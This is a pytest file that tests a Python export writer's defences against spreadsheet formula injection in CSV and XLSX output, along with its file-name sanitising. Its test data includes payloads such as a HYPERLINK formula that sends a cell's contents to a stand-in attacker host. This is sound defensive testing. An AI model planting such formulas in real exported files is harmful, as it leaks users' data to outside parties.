"""The one export writer: formula-looking text is neutralised, numbers stay numbers."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from samverka.lib.exports import Sheet, cell, csv_bytes, download, restore, xlsx_bytes

PLANTED = [
    '=HYPERLINK("https://evil.example/?"&A1,"klicka")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PLANTED)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_comes_back(text):
    assert cell(text) == "'" + text
    assert restore(cell(text)) == text


@pytest.mark.parametrize("value", [0, -5, 3.5, date(2025, 1, 1), None, True, "Läxhjälp", "a=b"])
def test_numbers_dates_and_ordinary_text_are_left_as_they_are(value):
    assert cell(value) == value


def test_csv_neutralises_every_cell_and_offers_the_excel_swedish_form():
    plain = csv_bytes(["title", "n"], [[PLANTED[0], -5]]).decode()
    assert list(csv.reader(io.StringIO(plain))) == [["title", "n"], ["'" + PLANTED[0], "-5"]]
    swedish = csv_bytes(["titel", "antal"], [["Kalmar", 3]], excel_swedish=True)
    assert swedish.startswith("\ufeff".encode())
    assert swedish.decode("utf-8-sig").splitlines() == ["titel;antal", "Kalmar;3"]


@pytest.mark.parametrize("with_finish", [False, True])
def test_xlsx_stores_text_as_text_never_as_a_formula(with_finish):
    sheets = [Sheet("results", ["text", "count"], [[t, -2] for t in PLANTED], widths=[40, 8])]
    finish = (lambda workbook: None) if with_finish else None
    workbook = load_workbook(io.BytesIO(xlsx_bytes(sheets, finish=finish)))
    rows = list(workbook["results"].iter_rows(min_row=2))
    # (openpyxl's own XML writer turns a carriage return into a line feed; with lxml, which
    # the research app's python-docx brings along, it is kept as it is)
    assert [r[0].value.replace("\r", "\n") for r in rows] == [
        "'" + t.replace("\r", "\n") for t in PLANTED
    ]
    assert all(r[0].data_type == "s" for r in rows)
    assert all(r[1].value == -2 and r[1].data_type == "n" for r in rows)


def test_download_is_an_attachment_with_a_plain_file_name():
    response = download(b"x", 'funder "2025"/../x.xlsx')
    assert response["Content-Disposition"] == 'attachment; filename="funder2025..x.xlsx"'
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
